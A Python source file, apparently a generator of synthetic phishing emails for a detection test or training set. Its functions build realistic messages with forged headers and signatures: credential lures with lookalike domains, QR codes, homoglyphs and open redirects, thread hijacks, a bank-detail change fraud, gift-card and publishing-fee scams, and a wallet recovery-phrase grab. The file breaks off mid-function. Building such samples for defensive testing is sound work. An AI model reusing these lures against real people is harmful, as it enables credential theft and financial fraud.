@sample("phishing", "b10-phish-dropbox-compromised-edu-au-square",
        "'Dr. Hannah Whitfield shared Research Collaboration Proposal with you' from a compromised Australian university "
        "Exchange Online account, the Dropbox-styled button going to a square.site page")
def p_dropbox_au(I: Ids) -> bytes:
    sent = T("2023-06-27 01:12:44")
    mbx = "ME3PR01MB7719.ausprd01.prod.outlook.com"
    subject = "Dr. Hannah Whitfield shared \"Research Collaboration Proposal\" with you"
    author = exchange_author(I, sent, mbx, "Hannah Whitfield <h.whitfield@kingsford.edu.au>", "h.whitfield@kingsford.edu.au",
                             subject, lang="en-AU")
    origin, c = exchange_outbound(I, sent, mbx, "kingsford.edu.au", "AUS01-ME3-obe.outbound.protection.outlook.com",
                                  "40.107.108.129", author, country="AU")
    link = "https://dropbox-docs-share.square.site/"
    html = outlook_html(
        '<table width="500" style="font-family:Helvetica"><tr><td style="padding:20px">'
        '<p style="color:#0061fe;font-size:22px">Dropbox</p>'
        '<p>Hi there,</p><p>Dr. Hannah Whitfield (h.whitfield@kingsford.edu.au) invited you to view the folder '
        '"<b>Research Collaboration Proposal</b>" on Dropbox.</p>'
        f'<p><a href="{link}" style="background:#0061fe;color:#fff;padding:10px 22px;text-decoration:none">View folder</a></p>'
        '<p>Enjoy!<br>The Dropbox team</p></td></tr></table>')
    plain = ("Hi there,\n\nDr. Hannah Whitfield (h.whitfield@kingsford.edu.au) invited you to view the folder \"Research "
             f"Collaboration Proposal\" on Dropbox.\n\nView folder <{link}>\n\nEnjoy!\nThe Dropbox team\n")
    return deliver(I, sent + timedelta(seconds=2), TOMASZ, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("phishing", "b10-phish-partner-compromised-wordpress",
        "Generic 'please find the document regarding our collaboration' from a partner German university account that "
        "really signs (DKIM pass) but was compromised; the OneDrive-styled link goes to a Swiss physiotherapy site's "
        "wp-includes folder")
def p_partner_compromised(I: Ids) -> bytes:
    sent = T("2024-11-19 05:48:22")
    user = "katrin.vogel@uni-greifenau.de"
    subject = "Projektantrag 2025 - Dokument zur Durchsicht"
    link = f"https://www.physio-lindenhof.ch/wp-includes/share/onedrive/?e={CLAIRE}"
    author = kit_author(I, sent, f"Katrin Vogel <{user}>", "undisclosed-recipients:;", subject, "Europe/Berlin",
                        mid_domain="webmail.uni-greifenau.de",
                        extra=["User-Agent: Roundcube Webmail/1.6.9", f"X-Sender: {user}"])
    hops = [postfix_hop(I, sent + timedelta(seconds=1), "mx-out2.uni-greifenau.de", "webmail.uni-greifenau.de", "141.44.18.12",
                        CLAIRE, "Europe/Berlin", label="gr1"),
            postfix_hop(I, sent, "webmail.uni-greifenau.de", "[197.211.58.90]", "197.211.58.90", CLAIRE, "Europe/Berlin",
                        auth=user, label="gr2")]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style="font-size: 10pt; font-family: Verdana,Geneva,sans-serif">\n'
            '<p>Hallo,</p>\n<p>please find below the document regarding our collaboration for your review.</p>\n'
            f'<p><a href="{link}">&#128196; Projektantrag_2025.pdf (OneDrive)</a></p>\n'
            '<p>Mit freundlichen Gr&uuml;&szlig;en<br />Katrin Vogel</p>\n'
            '<div class="pre" style="margin: 0; padding: 0; font-family: monospace">-- <br />Prof. Dr. Katrin Vogel<br />'
            'Institut f&uuml;r Gew&auml;sser&ouml;kologie, Universit&auml;t Greifenau</div>\n</body></html>\n')
    plain = (f"Hallo,\n\nplease find below the document regarding our collaboration for your review.\n\nProjektantrag_2025.pdf (OneDrive)\n{link}\n\n"
             "Mit freundlichen Grüßen\nKatrin Vogel\n\n-- \nProf. Dr. Katrin Vogel\nInstitut für Gewässerökologie, Universität Greifenau\n")
    c = Conn("141.44.18.25", "mx-out2.uni-greifenau.de", user, "pass", [("pass", "uni-greifenau.de", "mail2024")], "pass",
             "uni-greifenau.de", "QUARANTINE", country="DE", lang="de")
    dk = dkim(I, "uni-greifenau.de", "mail2024", "Date:From:To:Subject:Message-ID", sent)
    origin = "\n".join([dk] + hops + author)
    return deliver(I, sent + timedelta(seconds=2), CLAIRE, c, origin,
                   alt(f"=_{I.hex('grb', 32)}", plain, html, enc_html="quoted-printable"))


@sample("phishing", "b10-phish-mfa-qr-image-only",
        "Image-only 'Microsoft Authenticator registration expires, scan to re-register' mail from the lookalike "
        "m365-authenticator.support, zero-width characters in the subject, one picture of text plus an inline QR code")
def p_mfa_qr(I: Ids) -> bytes:
    sent = T("2023-10-10 06:30:02")
    dom = "m365-authenticator.support"
    user = f"security@{dom}"
    z = "\u200c"
    subject = enc(f"Action R{z}equired: M{z}FA re-registration for patrick.nguyen - Ref#{I.num('mfaref', 100000, 999999)}")
    target = f"https://mfa-reg-univmontforez.{dom}/auth/?u=" + base64.b64encode(PATRICK.encode()).decode()
    qr = files.qr_png(target)
    banner = png_text_image([
        ("Microsoft Authenticator", 26, (255, 255, 255)),
        ("", 10, (0, 0, 0)),
        ("Your multi-factor authentication registration", 18, (30, 30, 30)),
        ("for patrick.nguyen@univ-montforez.fr expires today.", 18, (30, 30, 30)),
        ("", 10, (0, 0, 0)),
        ("Scan the QR code below with your phone camera", 18, (30, 30, 30)),
        ("to re-register and keep access to Outlook and Teams.", 18, (30, 30, 30)),
    ], (620, 280), header_band=(56, (0, 120, 212)))
    c1 = f"img1.{I.hex('c1', 10)}@{dom}"
    c2 = f"img2.{I.hex('c2', 10)}@{dom}"
    html = ('<html><body style="margin:0"><div style="width:620px">'
            f'<img src="cid:{c1}" width="620" height="280" alt=""><br>'
            f'<img src="cid:{c2}" width="200" height="200" alt="" style="margin-left:210px">'
            '</div></body></html>\n')
    body = Multi("related", f"----=_NextPart_{I.hex('mfb', 24)}", [
        html_only(html, encoding="7bit"),
        attachment("image/png", "banner.png", banner, inline=True, cid=c1),
        attachment("image/png", "qr.png", qr, inline=True, cid=c2)])
    author = kit_author(I, sent, f"Microsoft 365 Security <{user}>", PATRICK, subject, "UTC")
    hop = postfix_hop(I, sent, f"smtp.{dom}", "[127.0.0.1]", "127.0.0.1", PATRICK)
    c = Conn("5.255.101.44", f"smtp.{dom}", user, "pass", [], "none", dom, country="NL")
    return deliver(I, sent + timedelta(seconds=1), PATRICK, c, "\n".join([hop] + author), body)


@sample("phishing", "b10-phish-payroll-qr-pdf",
        "'Payroll direct deposit update' from an outlook.com address styled 'Human Resources', with a PDF whose only "
        "action is a QR code to a .cfd credential page (QR inside the attachment, nothing clickable in the mail)")
def p_payroll_qr_pdf(I: Ids) -> bytes:
    sent = T("2024-02-06 08:55:31")
    frm = "Human Resources <hr.department.payroll@outlook.com>"
    subject = "Payroll Direct Deposit Update - Action Needed (Feb 2024)"
    origin, c = ms_consumer_origin(I, sent, frm, ISABELLE, subject, has_attach=True)
    target = "https://hr-portal-verify.cfd/montforez/?id=" + I.hex("pqr", 12)
    pdf = qr_pdf(target, ["Universite de Montforez - Human Resources", "", "Direct Deposit Information Update",
                          "", "Dear employee,", "Our payroll system has been migrated. To avoid a delay of your February",
                          "salary, confirm your direct deposit details by scanning the QR code below", "with your mobile phone.",
                          "", "Deadline: 08/02/2024"], "Payroll Update")
    plain = ("Hello,\n\nPlease see the attached document from Human Resources regarding your direct deposit information. "
             "Review it before 08/02/2024 to avoid delays in your salary.\n\nRegards,\nHuman Resources\n")
    html = outlook_html("".join(f"<div>{l or '<br>'}</div>" for l in plain.rstrip().split("\n")))
    mbx = origin.split("Message-ID:\n <")[1].split("@")[1].split(">")[0]
    body = Multi("mixed", outlook_boundary(I, mbx, "mix"), [alt(outlook_boundary(I, mbx), plain, html),
                                                            attachment("application/pdf", "Payroll_Direct_Deposit_Update_Feb2024.pdf", pdf)])
    return deliver(I, sent + timedelta(seconds=2), ISABELLE, c, origin, body)


@sample("phishing", "b10-phish-thread-hijack-glitch",
        "Thread hijack: a Portuguese partner's compromised Exchange Online mailbox answers a real conversation about "
        "sharing data files with a generic 'updated files via the link below' pointing to a glitch.me page")
def p_thread_hijack(I: Ids) -> bytes:
    sent = T("2022-07-19 10:02:31")
    mbx = "AM9PR09MB4867.eurprd09.prod.outlook.com"
    prev_id = f"<CAH{I.alnum('prevmid', 44)}@mail.gmail.com>"
    prev2 = f"<AM9PR09MB4867{I.hex('prev2', 32, upper=True)}@AM9PR09MB4867.eurprd09.prod.outlook.com>"
    subject = "RE: Calcium imaging datasets for the joint paper"
    author = exchange_author(I, sent, mbx, "Rui Carvalho <rui.carvalho@ipalvor.pt>", BEATRIZ, subject, lang="pt-PT",
                             in_reply_to=prev_id, references=f"{prev2} {prev_id}")
    origin, c = exchange_outbound(I, sent, mbx, "ipalvor.pt", "EUR05-AM6-obe.outbound.protection.outlook.com",
                                  "40.107.22.96", author, country="PT")
    link = "https://ipalvor-onedrive-files.glitch.me/"
    quoted = ("From: Beatriz Almeida <beatriz.almeida@disn-research.eu>\nSent: Monday, July 18, 2022 4:12 PM\n"
              "To: Rui Carvalho <rui.carvalho@ipalvor.pt>\nSubject: Re: Calcium imaging datasets for the joint paper\n\n"
              "Hi Rui,\n\nThanks! The first batch (animals 1-6) arrived fine. Could you also send the ROI masks for session 3? "
              "The motion-corrected stacks look good, I'll run suite2p on the rest tomorrow.\n\nBest,\nBeatriz\n\n"
              "From: Rui Carvalho <rui.carvalho@ipalvor.pt>\nSent: Friday, July 15, 2022 11:40 AM\n"
              "To: Beatriz Almeida <beatriz.almeida@disn-research.eu>\nSubject: Calcium imaging datasets for the joint paper\n\n"
              "Dear Beatriz,\n\nAs agreed in the call, here are the first six animals (raw tiffs + metadata). The rest will follow "
              "next week once Sofia finishes the QC.\n\nAbraço,\nRui\n")
    plain = (f"Hi,\n\nPlease find the updated files and the revised manuscript via the link below.\n\n{link}\n\n"
             "Kind regards,\nRui\n\n________________________________\n" + quoted)
    html = outlook_html('<p>Hi,</p><p><br></p><p>Please find the updated files and the revised manuscript via the link below.</p><p><br></p>'
                        f'<p><a href="{link}">&#128193; Shared_Files_Rui_Carvalho.zip (OneDrive)</a></p><p><br></p><p>Kind regards,<br>Rui</p>'
                        '<hr style="display:inline-block;width:98%"><div id="divRplyFwdMsg">'
                        + "".join(f"<div>{l or '<br>'}</div>" for l in quoted.split("\n")) + "</div>")
    return deliver(I, sent + timedelta(seconds=2), BEATRIZ, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("phishing", "b10-phish-thread-hijack-iban-lookalike",
        "French supplier-invoice thread continued from the lookalike labtech-suplly.fr (real supplier labtech-supply.fr): "
        "'our bank details changed after an audit', new RIB in a PDF with a foreign IBAN; payment fraud on procurement")
def p_iban(I: Ids) -> bytes:
    sent = T("2025-05-20 13:40:16")
    dom = "labtech-suplly.fr"
    user = f"comptabilite@{dom}"
    prev = f"<PR1P264MB2398{I.hex('ibanprev', 32, upper=True)}@PR1P264MB2398.FRAP264.PROD.OUTLOOK.COM>"
    prev0 = f"<{I.hex('ibanprev0', 24)}@labtech-supply.fr>"
    subject = "RE: Facture FA-2025-0412 - Centrifugeuse réfrigérée 5430R"
    author = kit_author(I, sent, f"LabTech Supply - Comptabilité <{user}>", JULIEN, encq(subject), "Europe/Paris",
                        mid=I.hex("zmid", 13) + "." + str(int(sent.timestamp() * 1000)), mid_domain="mail.zoho.eu",
                        extra=[f"In-Reply-To: {prev}", f"References: {prev0} {prev}", "Importance: High",
                               "User-Agent: Zoho Mail", "X-Mailer: Zoho Mail"])
    author = [l if not l.startswith("From:") else "From: " + encq("LabTech Supply - Comptabilité") + f" <{user}>" for l in author]
    quoted = ("De : Julien Ferrand <julien.ferrand@univ-montforez.fr>\nEnvoyé : lundi 19 mai 2025 17:02\n"
              "À : Service comptabilité <comptabilite@labtech-supply.fr>\nObjet : RE: Facture FA-2025-0412 - Centrifugeuse réfrigérée 5430R\n\n"
              "Bonjour Madame Perrin,\n\nLe bon de commande BC-2025-00873 a bien été validé. Le règlement de la facture FA-2025-0412 "
              "(18 420,00 EUR TTC) sera mis en paiement cette semaine.\n\nCordialement,\nJulien Ferrand\nService financier - UFR Sciences\n")
    plain = ("Bonjour Monsieur Ferrand,\n\nMerci pour votre retour.\n\nSuite à un audit interne, nos coordonnées bancaires ont été "
             "modifiées. Merci de ne plus utiliser l'ancien RIB et d'effectuer le virement de la facture FA-2025-0412 sur le nouveau "
             "compte indiqué dans le RIB ci-joint.\n\nPouvez-vous me confirmer la date d'exécution du virement ? Le dossier doit être "
             "soldé avant vendredi.\n\nBien cordialement,\n\nNathalie Perrin\nService comptabilité\nLabTech Supply\n\n" + quoted)
    html = ('<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>'
            + "".join(f"<div>{l or '<br>'}</div>" for l in plain.split("\n\n" + quoted)[0].split("\n"))
            + '</div><br><div class="zmail_extra"><blockquote style="border-left: 1px solid #cccccc; padding-left: 6px; margin: 0 0 0 5px">'
            + "".join(f"<div>{l or '<br>'}</div>" for l in quoted.split("\n")) + "</blockquote></div></div>\n")
    rib = files.pdf(["RELEVE D'IDENTITE BANCAIRE", "", "Titulaire : LABTECH SUPPLY SAS", "Domiciliation : UAB Paysera LT",
                     "IBAN : LT46 3500 0100 1643 2871", "BIC : EVIULT2VXXX", "", "Document a usage de reglement fournisseur"],
                    title="RIB LabTech Supply")
    body = Multi("mixed", f"----=_Part_{I.num('ibb', 100000, 999999)}_{I.num('ibb2', 10**8, 10**9)}.{int(sent.timestamp() * 1000)}", [
        alt(f"----=_Part_{I.num('ibb3', 100000, 999999)}_{I.num('ibb4', 10**8, 10**9)}.{int(sent.timestamp() * 1000)}", plain, html),
        attachment("application/pdf", "RIB_LabTech_Supply_2025.pdf", rib)])
    hop = (f"Received: from mail.zoho.eu by mx.zoho.eu\n\twith SMTP id {int(sent.timestamp() * 1000)}{I.num('zh', 100, 999)}.{I.num('zh2', 100, 999)}; "
           f"{rfc(sent, 'Europe/Paris')} ({sent.astimezone(ZoneInfo('Europe/Paris')).strftime('%Z')})")
    c = Conn(f"185.20.{I.num('zip', 208, 211)}.{I.num('zip2', 2, 250)}", "sender4-op-o12.zoho.eu", user, "pass",
             [("pass", dom, "zmail")], "none", dom, country="NL", lang="fr")
    dk = dkim(I, dom, "zmail", "Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:MIME-Version:Content-Type:Reply-To", sent)
    arc = [f"ARC-Seal: i=1; a=rsa-sha256; t={int(sent.timestamp())}; cv=none; \n\td=zohomail.eu; s=zohoarc; \n\tb=" + I.b64("zarc", 172),
           f"ARC-Authentication-Results: i=1; mx.zoho.eu;\n\tdkim=pass  header.i={dom};\n\tspf=pass  smtp.mailfrom={user};\n\tdmarc=none header.from=<{user}>"]
    origin = "\n".join(arc + [dk, hop] + author)
    return deliver(I, sent + timedelta(seconds=2), JULIEN, c, origin, body)


@sample("phishing", "b10-phish-giftcard-director-gmail",
        "'Are you available?' to the institute's finance officer from a Gmail address using the director's name, "
        "the opening move of a gift-card scam (no link, pressure and secrecy)")
def p_giftcard_director(I: Ids) -> bytes:
    sent = T("2023-12-12 08:03:55")
    frm = "Jonas Weber <director.jweber@gmail.com>"
    subject = "Quick task"
    origin, c = gmail_origin(I, sent, frm, MARKUS, subject, False, MARKUS, tz="Europe/Vienna")
    lines = ["Hi Markus,", "", "Are you available? I need you to handle a task for me discreetly. I'm in a meeting with the "
             "board and can't take calls, reply by email.", "", "Jonas", "", "Sent from my iPhone"]
    plain = "\n".join(lines) + "\n"
    return deliver(I, sent + timedelta(seconds=1), MARKUS, c, origin, alt(gmail_boundary(I), plain, gmail_html(lines), "UTF-8"))


@sample("phishing", "b10-phish-fr-cartes-cadeaux-doyenne",
        "Second step of a gift-card scam in French: a Gmail address with the dean's name replies to the secretary's "
        "'oui, je suis disponible' asking for five 100 EUR Google Play cards and photos of the scratched codes")
def p_giftcard_dean(I: Ids) -> bytes:
    sent = T("2024-12-17 09:31:12")
    frm = f"{enc('Hélène Rousseau')} <doyenne.hrousseau@gmail.com>"
    prev = f"<PR0P264MB4416{I.hex('gcprev', 32, upper=True)}@PR0P264MB4416.FRAP264.PROD.OUTLOOK.COM>"
    first = f"<CA+{I.alnum('gcfirst', 44)}@mail.gmail.com>"
    subject = enc("Re: Es-tu disponible ?")
    origin, c = gmail_origin(I, sent, frm, f"Sophie Lambert <{SOPHIE}>", subject, True, SOPHIE,
                             in_reply_to=prev, references=f"{first} {prev}")
    quote = ["Le mar. 17 déc. 2024 à 10:18, Sophie Lambert <sophie.lambert@univ-montforez.fr> a écrit :",
             "> Bonjour Madame Rousseau,", "> Oui, je suis disponible, que puis-je faire pour vous ?", "> Sophie"]
    lines = ["Merci Sophie,", "",
             "Je prépare une surprise pour quelques collègues du conseil de faculté et je n'ai pas le temps de m'en occuper, "
             "je suis en réunion toute la matinée.", "",
             "Peux-tu acheter 5 cartes cadeaux Google Play de 100 € chacune (au bureau de tabac ou à la Fnac) ? "
             "Gratte le dos des cartes et envoie-moi les photos des codes par retour de mail. Je te rembourse dès cet après-midi.", "",
             "Merci de garder ça entre nous, c'est une surprise.", "", "Hélène Rousseau", "Doyenne de la Faculté des sciences", "",
             "Envoyé de mon iPhone", ""] + quote
    plain = "\n".join(lines) + "\n"
    html = gmail_html(lines[:-len(quote)]) + ('<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">' + quote[0] +
                                               '<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                                               + "<br>".join(q[2:] for q in quote[1:]) + "</blockquote></div>\n")
    return deliver(I, sent + timedelta(seconds=2), SOPHIE, c, origin, alt(gmail_boundary(I), plain, html, "UTF-8"))


@sample("phishing", "b10-phish-book-publishing-fee",
        "Book-publishing scam to a PhD student: 'Meridian Academic Press' offers to publish her thesis as a monograph "
        "for a 1,290 EUR 'author contribution', paid through a godaddysites.com page within 7 days")
def p_book(I: Ids) -> bytes:
    sent = T("2025-09-16 14:10:37")
    dom = "meridian-academicpress.com"
    user = f"acquisitions@{dom}"
    subject = "Publication offer: your doctoral research as a monograph"
    link = "https://meridianacademicpress.godaddysites.com/author-agreement"
    author = kit_author(I, sent, f"Meridian Academic Press <{user}>", AMINA, subject, "UTC", reply_to=f"editor.l.hayes@{dom}")
    lines = ["Dear Ms. Amina Diallo,", "",
             "Our acquisitions team came across your doctoral work on microbial communities in alpine streams and we believe "
             "it would make an excellent monograph for our Life Sciences series.", "",
             "We are pleased to offer you a publishing contract including peer review, an ISBN, worldwide distribution "
             "through major online retailers and 40% royalties.", "",
             "To reserve your place in the 2025 catalogue, a one-time author contribution of 1,290 EUR (typesetting and "
             "cover design) is required within 7 days. You can review the agreement and pay securely here:", link, "",
             "Best regards,", "Dr. Lauren Hayes", "Acquisitions Editor, Meridian Academic Press"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Review the author agreement</a>'}</p>" for l in lines if l))
    sg = [f"Received: by filterdrecv-{I.hex('sgf', 10)}-{I.lower('sgf2', 5)} with SMTP id filterdrecv-{I.hex('sgf', 10)}-{I.lower('sgf2', 5)}-1-{I.hex('sgf3', 8, upper=True)}-{I.num('sgf4', 10, 99)}\n"
          f"        {rfc(sent, pad=True)} (UTC)",
          f"Received: from MjQ{I.b64('sgr', 18)} (unknown)\n\tby geopod-ismtpd-{I.num('sgg', 1, 40)} (SG) with HTTP\n\tid {I.b64url('sgid', 22)}\n\t{rfc(sent, pad=True)} (UTC)",
          dkim(I, dom, "s1", "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to", sent),
          f"X-SG-EID: \n {I.b64('sgeid', 76)}\n {I.b64('sgeid2', 60)}",
          f"X-SG-ID: \n {I.b64('sgid2', 76)}"]
    c = Conn(f"149.72.{I.num('sgip', 1, 250)}.{I.num('sgip2', 1, 250)}", f"o{I.num('sgo', 1, 9)}.ptr{I.num('sgptr', 1000, 9999)}.{dom}",
             f"bounces+{I.num('sgb', 10000000, 99999999)}-{I.hex('sgbh', 4)}-{AMINA.replace('@', '=')}@em{I.num('sgem', 1000, 9999)}.{dom}",
             "pass", [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", dom, "NONE")
    return deliver(I, sent + timedelta(seconds=2), AMINA, c, "\n".join(sg + author), alt(f"{I.hex('sgbnd', 64)}", plain, html))


@sample("phishing", "b10-phish-crypto-wallet-ipfs",
        "MetaMask 'wallet verification required' to an alumna's Yahoo mailbox from metamask-verification.io, the page on "
        "a dweb.link IPFS gateway asks for the secret recovery phrase")
def p_crypto(I: Ids) -> bytes:
    sent = T("2022-05-24 19:48:02")
    dom = "metamask-verification.io"
    user = f"support@{dom}"
    subject = "Action required: complete your MetaMask wallet verification"
    cid = "bafybei" + I.alnum("mmcid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://dweb.link/ipfs/{cid}/metamask-verify.html"
    author = kit_author(I, sent, f"MetaMask <{user}>", MARGARET, subject, "UTC")
    html = html_doc(
        '<div style="max-width:560px;margin:auto;font-family:Arial"><p style="text-align:center;font-size:22px;color:#f6851b">&#129418; MetaMask</p>'
        '<p>Dear user,</p><p>Due to new regulatory requirements, all wallets must complete verification (KYC) before '
        '<b>31 May 2022</b>. Unverified wallets will be restricted and their assets frozen.</p>'
        '<p>The verification takes less than 2 minutes. You will need your Secret Recovery Phrase to confirm ownership.</p>'
        f'<p style="text-align:center"><a href="{link}" style="background:#037dd6;color:#fff;padding:12px 30px;border-radius:22px;text-decoration:none">Verify my wallet</a></p>'
        '<p style="font-size:11px;color:#888">&copy; 2022 MetaMask. All rights reserved.</p></div>')
    hop = postfix_hop(I, sent, f"mail.{dom}", "localhost", "127.0.0.1", MARGARET)
    c = Conn("141.98.11.65", f"mail.{dom}", user, "pass", [("pass", dom, "default")], "none", dom, country="LT")
    origin = "\n".join([hop, dkim(I, dom, "default", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), MARGARET, c, origin, html_only(html))


@sample("phishing", "b10-phish-mfa-fatigue-lookalike",
        "MFA-fatigue pretext from the lookalike univ-montforez-support.com 'Service Desk': approve every Authenticator "
        "prompt in the next 15 minutes and reply with the number shown (so the attacker's sign-in gets approved)")
def p_mfa_fatigue(I: Ids) -> bytes:
    sent = T("2025-02-11 07:58:44")
    dom = "univ-montforez-support.com"
    user = f"servicedesk@{dom}"
    subject = "MFA migration tonight - please approve the verification requests"
    author = kit_author(I, sent, f"Service Desk DNum <{user}>", LAURE, subject, "Europe/Paris",
                        mid=f"{I.hex('mfam', 20)}.{I.hex('mfam2', 8)}", mid_domain=dom)
    lines = ["Bonjour / Hello,", "",
             "As part of the migration of the university's multi-factor authentication to the new Microsoft tenant, your account "
             "will be re-synchronised this morning between 9:00 and 9:15.", "",
             "During this window you will receive several sign-in requests in the Microsoft Authenticator app. Please APPROVE "
             "ALL of them, otherwise your account will be locked and you will lose access to Outlook, Teams and the ENT.", "",
             "If the app asks you for a number, reply to this email with the number displayed so we can complete the "
             "synchronisation on our side.", "",
             "Thank you for your cooperation,", "Service Desk - Direction du numérique", "Université de Montforez"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l}</p>" for l in lines if l))
    hop = postfix_hop(I, sent, f"mail.{dom}", "[10.0.0.4]", "10.0.0.4", LAURE, auth=user)
    c = Conn("20.199.40.17", f"mail.{dom}", user, "pass", [("pass", dom, "mail")], "pass", dom, "NONE", country="FR")
    origin = "\n".join([hop, dkim(I, dom, "mail", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), LAURE, c, origin, alt(f"=_{I.hex('mfab', 32)}", plain, html))


@sample("phishing", "b10-phish-okta-lookalike",
        "Okta 'your session expired, re-verify' notice for the institute from disn-research-okta.com, a lookalike of its "
        "real tenant disn-research.okta.com, link to a sign-in clone on the lookalike")
def p_okta(I: Ids) -> bytes:
    sent = T("2024-04-30 05:44:10")
    dom = "disn-research-okta.com"
    user = f"noreply@{dom}"
    subject = "Okta: Your session has expired - re-verify your account"
    link = f"https://{dom}/app/UserHome?fromURI=%2Fenduser%2Fsettings&sid={I.b64url('oksid', 22)}"
    author = kit_author(I, sent, f"DISN Okta <{user}>", DAVID, subject, "UTC")
    html = html_doc(
        '<table width="560" style="font-family:Arial;border:1px solid #ddd"><tr><td style="padding:20px;background:#00297a;color:#fff;font-size:20px">okta</td></tr>'
        '<tr><td style="padding:24px"><p>Hi David,</p><p>Your Okta session for <b>disn-research</b> has expired because of a security '
        'policy update. To keep access to Google Workspace, Slack and the HPC portal, re-verify your account and enroll '
        'your device again.</p>'
        f'<p><a href="{link}" style="background:#1662dd;color:#fff;padding:10px 24px;text-decoration:none">Re-verify account</a></p>'
        '<p style="font-size:12px;color:#666">This link expires in 12 hours.</p></td></tr></table>')
    hop = postfix_hop(I, sent, f"mx.{dom}", "localhost", "127.0.0.1", DAVID)
    c = Conn("194.169.175.88", f"mx.{dom}", user, "pass", [("pass", dom, "okta1")], "none", dom, country="GB")
    origin = "\n".join([hop, dkim(I, dom, "okta1", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), DAVID, c, origin, html_only(html))


@sample("phishing", "b10-phish-duo-webflow",
        "Duo Security 'device re-activation required' sent through SendGrid from the lookalike duo-mobile-security.com; "
        "the button leads to a webflow.io page, not the university's SSO")
def p_duo(I: Ids) -> bytes:
    sent = T("2023-09-19 12:20:51")
    dom = "duo-mobile-security.com"
    user = f"no-reply@{dom}"
    subject = "Duo Security: device re-activation required"
    link = f"https://duo-device-reactivation.webflow.io/?ref={I.hex('duoref', 10)}"
    tracked = f"https://u{I.num('sgu', 1000000, 9999999)}.ct.sendgrid.net/ls/click?upn={I.b64url('sgupn', 120)}"
    author = kit_author(I, sent, f"Duo Security <{user}>", EMILE, subject, "UTC")
    html = html_doc(
        '<table width="560" style="font-family:Arial"><tr><td style="padding:18px;font-size:22px;color:#6bbf4e"><b>DUO</b></td></tr>'
        '<tr><td style="padding:18px"><p>Hello,</p><p>Your Duo Mobile device needs to be re-activated after the latest security '
        'update. Until re-activation, push notifications to your phone will fail and you will not be able to sign in.</p>'
        f'<p><a href="{tracked}" style="background:#6bbf4e;color:#fff;padding:10px 24px;text-decoration:none">Re-activate Duo Mobile</a></p>'
        f'<p style="font-size:12px;color:#666">If the button does not work, copy this address into your browser: {link}</p>'
        '<p>Thanks,<br>Duo Security</p></td></tr></table>'
        f'<img src="https://u{I.num("sgu", 1000000, 9999999)}.ct.sendgrid.net/wf/open?upn={I.b64url("sgopen", 80)}" width="1" height="1" alt="">')
    sg = [f"Received: from {I.b64('sgr', 20)} (unknown)\n\tby geopod-ismtpd-{I.num('sgg', 1, 40)} (SG) with HTTP\n\tid {I.b64url('sgid', 22)}\n\t{rfc(sent, pad=True)} (UTC)",
          dkim(I, "sendgrid.net", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", sent),
          f"X-SG-EID: \n {I.b64('sgeid', 76)}", f"X-SG-ID: \n {I.b64('sgid2', 76)}", f"X-Entity-ID: {I.b64('sgent', 22)}=="]
    c = Conn(f"167.89.{I.num('sgip', 1, 120)}.{I.num('sgip2', 1, 250)}", f"o{I.num('sgo', 1, 9)}.ptr{I.num('sgptr', 1000, 9999)}.sendgrid.net",
             f"bounces+{I.num('sgb', 10000000, 99999999)}-{I.hex('sgbh', 4)}-{EMILE.replace('@', '=')}@sendgrid.net",
             "pass", [("pass", "sendgrid.net", "smtpapi")], "none", dom, country="US")
    return deliver(I, sent + timedelta(seconds=2), EMILE, c, "\n".join(sg + author), html_only(html))


@sample("phishing", "b10-phish-homoglyph-google-amp",
        "'Sign-in blocked' notice whose display name and body spell Microsoft with Cyrillic letters, sent from "
        "msonline-accs.info; the link is a google.com/amp/s/ open redirect to a web.app (Firebase) credential page")
def p_homoglyph(I: Ids) -> bytes:
    sent = T("2023-07-04 03:17:29")
    dom = "msonline-accs.info"
    user = f"account-security@{dom}"
    ms = "\u041c\u0456crosoft"  # Cyrillic EM and Ukrainian I
    subject = enc(f"{ms} 365: sign-in blocked on your account")
    dest = f"ms365-signin-review.web.app/?e={base64.b64encode(INES.encode()).decode()}"
    link = f"https://www.google.com/amp/s/{dest}"
    author = kit_author(I, sent, f"{enc(ms + ' 365')} <{user}>", INES, subject, "UTC")
    html = html_doc(
        f'<div style="font-family:Segoe UI;max-width:560px"><p style="font-size:20px">{ms} account</p>'
        '<p style="font-size:26px;color:#2672ec">Sign-in blocked</p>'
        f'<p>We detected unusual sign-in activity for the account <b>{INES}</b>.</p>'
        '<table style="font-size:13px"><tr><td>Country/region:</td><td>Nigeria</td></tr><tr><td>IP address:</td><td>102.89.47.151</td></tr>'
        '<tr><td>Date:</td><td>7/4/2023 4:59 AM (GMT)</td></tr><tr><td>Platform:</td><td>Android</td></tr></table>'
        f'<p>If this wasn\'t you, please <a href="{link}">review your recent activity</a> to secure your account.</p>'
        f'<p>Thanks,<br>The {ms} account team</p></div>')
    hop = postfix_hop(I, sent, f"mail.{dom}", "localhost", "127.0.0.1", INES)
    c = Conn("91.215.85.147", f"mail.{dom}", user, "pass", [], "none", dom, country="RU")
    return deliver(I, sent + timedelta(seconds=1), INES, c, "\n".join([hop] + author), html_only(html))


@sample("phishing", "b10-phish-fr-bu-cas-open-redirect",
        "French 'your library reader account expires' from a laposte.net address; the link starts with the university's "
        "real CAS server but uses its logout?service= redirect to reach a firebaseapp.com page")
def p_cas_redirect(I: Ids) -> bytes:
    sent = T("2024-10-08 15:26:40")
    user = "bu.montforez@laposte.net"
    subject = enc("Bibliothèque universitaire : votre compte lecteur expire le 10/10/2024")
